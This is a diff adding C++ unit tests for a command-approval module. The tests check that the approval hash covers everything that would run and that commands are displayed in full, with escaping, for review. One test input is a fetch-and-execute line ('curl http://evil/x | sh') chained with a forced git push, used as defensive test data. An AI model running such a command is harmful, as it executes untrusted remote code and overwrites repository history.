@@ -1,0 +1,51 @@
+// What is approved, and what is shown of it.
+#include "review/approval.h"
+
+#include <gtest/gtest.h>
+
+#include <string>
+#include <vector>
+
+namespace mxc::approval_test {
+namespace {
+
+// Everything that decides what would run is in it.
+TEST(Approval, TheHashIsOfAllThatWouldRun) {
+  const ReviewRequest request{
+      .command = {.argv = {"a", "b"},
+                  .cwd = "/c",
+                  .variables = {{.name = "X", .value = Secret{"1"}}, {.name = "Y", .value = Secret{"2"}}}},
+      .policy_hash = "p",
+      .sandbox = "ns:1",
+      .places = {"8:1 2"}};
+  ReviewRequest other = request;
+  std::reverse(other.command.variables.begin(), other.command.variables.end());
+  EXPECT_EQ(RequestHash(request), RequestHash(other));
+  std::vector<ReviewRequest> others(10, request);
+  others[0].command.argv = {"ab"};
+  others[1].command.argv = {"a", "b", ""};
+  others[2].command.cwd = "/";
+  others[3].command.variables.pop_back();
+  others[4].policy_hash = "q";
+  others[5].command.line = "a b";
+  others[6].command.variables[0].value = Secret{"3"};
+  others[7].sandbox = "ns:2";
+  others[8].places = {"8:1 3"};
+  others[9].places = {};
+  for (const ReviewRequest& each : others) EXPECT_NE(RequestHash(request), RequestHash(each));
+}
+
+TEST(Approval, TheWholeCommandIsShown) {
+  const auto shown = [](std::vector<std::string> argv) { return WholeCommand({.argv = std::move(argv)}); };
+  EXPECT_EQ(shown({"sh", "-c", "curl http://evil/x | sh; git push --force"}),
+            "sh -c 'curl http://evil/x | sh; git push --force'");
+  EXPECT_NE(shown({"rm", "a b"}), shown({"rm", "a", "b"}));
+  EXPECT_NE(shown({"rm", "a b"}), shown({"rm", "\"a b\""}));
+  EXPECT_EQ(shown({"rm", "\x1b[2K", "\xe2\x80\xae", ""}), "rm $'\\x1b[2K' $'\\xe2\\x80\\xae' ''");
+  const std::string tail = shown({"x", std::string(20000, 'a'), "last"});
+  EXPECT_TRUE(tail.ends_with("a last"));
+  EXPECT_EQ(WholeCommand({.line = "a; b"}), "/bin/sh -c 'a; b'");
+}
+
+}  // namespace
+}  // namespace mxc::approval_test
